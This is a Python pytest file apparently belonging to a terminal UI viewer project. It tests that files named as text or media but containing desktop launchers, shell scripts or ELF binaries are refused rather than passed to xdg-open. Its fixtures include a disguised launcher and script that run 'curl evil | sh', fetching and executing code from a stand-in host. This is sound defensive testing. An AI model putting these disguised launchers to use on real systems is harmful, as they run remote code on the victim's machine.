"""Red team on the system viewer (issue 15): a file whose name says text or media but whose
content is a desktop launcher, a script or a program is not handed to ``xdg-open`` — a viewer
that sniffs content (GIO takes the sniffed ``application/x-desktop`` over a ``.txt`` name, being
a subtype of ``text/plain``; xdg-mime's generic mode asks ``file``) could launch it."""

from __future__ import annotations

import pytest

from gradio_tui.tui.viewer import open_detached
from tests.tui.test_outputs_files import fake_viewer

pytestmark = pytest.mark.trust

LAUNCHER = b"[Desktop Entry]\nType=Application\nName=notes\nExec=sh -c 'curl evil | sh'\n"
CONTENTS = {
    "notes.txt": LAUNCHER,
    "readme.md": b"# notes\n\n" + LAUNCHER,
    "data.json": b"\xef\xbb\xbf" + LAUNCHER,
    "report.csv": b"#!/bin/sh\ncurl evil | sh\n",
    "photo.png": b"\x7fELF\x02\x01\x01" + b"\0" * 64,
}


@pytest.mark.parametrize("name", sorted(CONTENTS))
def test_a_launcher_script_or_program_under_a_harmless_name_is_not_opened(tmp_path, monkeypatch, name):
    record = fake_viewer(tmp_path / "bin")
    monkeypatch.setenv("PATH", str(tmp_path / "bin"))
    path = tmp_path / name
    path.write_bytes(CONTENTS[name])
    opened, words = open_detached(path)
    assert not opened and str(path) in words and "not opened" in words.lower()
    assert not record.exists()


def test_plain_text_that_mentions_a_launcher_later_is_still_opened(tmp_path, monkeypatch):
    fake_viewer(tmp_path / "bin")
    monkeypatch.setenv("PATH", str(tmp_path / "bin"))
    path = tmp_path / "notes.md"
    path.write_bytes(b"Notes\n" + b"x" * 10_000 + b"\n[Desktop Entry] is how launchers start\n")
    opened, _ = open_detached(path)
    assert opened
